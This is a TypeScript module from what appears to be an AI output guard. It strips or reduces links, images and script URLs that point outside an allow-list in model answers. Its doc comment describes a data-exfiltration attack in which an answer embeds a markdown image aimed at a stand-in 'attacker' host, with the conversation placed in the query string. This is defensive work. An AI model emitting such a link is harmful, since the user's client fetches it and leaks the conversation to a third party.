import type { GuardPolicy } from '../guard-policy.js';
import type { GuardCheck, GuardCheckOutcome } from '../guard-types.js';
import { findLinks, hostAllowed, type LinkMatch } from '../rules/links.js';
import { maskSpans } from './mask-spans.js';

/**
 * The report's exfiltration attack is an answer containing `![](https://attacker/p?q=<the conversation>)`: the
 * user's client fetches the image and the data is gone. In answers, what points outside the allow-list
 * (`output.allowedLinkHosts`) is neutralised: images and HTML/CSS resources are removed, links and bare addresses
 * are reduced to their host (data can ride in a path or a subdomain as well as in a query), and javascript:,
 * vbscript: and data: addresses are removed wherever they point. Nothing is fetched, so nothing leaks.
 *
 * A quoted answer (`GuardInput.quoted`: the caller's documents word for word) cannot carry the conversation: its
 * links and addresses are the documents' own and stay; its images and scripts are neutralised all the same.
 */
export function linksCheck(policy: GuardPolicy): GuardCheck {
  const allowed = policy.output.allowedLinkHosts;
  const neutralised = (link: LinkMatch, quoted: boolean) => {
    if (link.kind === 'script') return true;
    if (quoted && (link.kind === 'link' || link.kind === 'url')) return false;
    return !hostAllowed(link.host, allowed);
  };
  return {
    name: 'links',
    directions: ['output'],
    check(input): GuardCheckOutcome {
      const foreign = findLinks(input.text).filter((link) => neutralised(link, input.quoted === true));
      if (foreign.length === 0) return { verdict: 'allow', categories: [], findings: [] };
      const findings = foreign.map((link) => ({
        category: 'exfiltration' as const, kind: link.kind === 'script' ? 'script_link' : `${link.kind}_to_foreign_host`, start: link.start, end: link.end,
      }));
      const redacted = maskSpans(input.text, foreign, (index) => {
        const link = foreign[index]!;
        return link.kind === 'image' ? `[이미지 제거됨: ${link.host}]` : `[링크 제거됨: ${link.host}]`;
      });
      return { verdict: 'caution', categories: ['exfiltration'], findings, redacted };
    },
  };
}
